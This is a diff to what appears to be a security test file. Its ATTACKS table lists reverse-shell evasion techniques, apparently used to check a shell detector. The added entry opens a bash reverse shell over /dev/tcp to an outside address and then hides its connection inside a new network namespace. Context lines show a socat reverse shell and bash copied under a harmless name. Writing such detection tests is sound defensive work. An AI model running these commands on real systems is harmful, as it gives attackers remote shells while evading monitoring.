@@ -75,6 +75,15 @@ ATTACKS = {
         "sleep 0.5; cat /proc/$!/net/tcp >/tmp/mirror.tcp; wait",
         f"socat exec:'bash -li',pty,stderr,setsid tcp:{EXT},bind={GUEST_IP}:{MIRROR_PORT},reuseaddr",
         "bash", 2),
+    # the shell dials out, then moves into a network namespace where the
+    # attacker's address is local (a listener on it); it keeps its fds,
+    # and its connection stays in the namespace it left
+    "shell moved to a namespace with the far address": (
+        None,
+        f"bash -c 'exec 3<>/dev/tcp/{EXT_TCP}; exec unshare -n sh -c \"ip link set lo up; "
+        f"ip addr add {OUTSIDE}/32 dev lo; socat TCP-LISTEN:80,bind={OUTSIDE} /dev/null 3>&- & sleep 1; "
+        "exec bash -i <&3 >&3 2>&3\"'",
+        "bash", 1),
     # a copy of bash under a harmless name: known by its content
     "renamed bash": (None,
                      "cp /bin/bash /tmp/kworkr; "
